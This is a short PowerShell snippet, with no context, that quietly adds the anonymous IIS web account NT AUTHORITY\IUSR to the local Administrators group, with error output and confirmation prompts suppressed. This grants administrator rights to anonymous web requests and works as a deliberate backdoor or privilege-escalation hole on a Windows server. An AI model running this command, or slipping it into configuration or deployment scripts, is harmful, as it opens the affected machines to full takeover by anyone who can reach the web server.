$p = @{ Group = 'Administrators'; Member = 'NT AUTHORITY\IUSR'; ErrorAction = 'SilentlyContinue'; Confirm = $false }
Add-LocalGroupMember @p
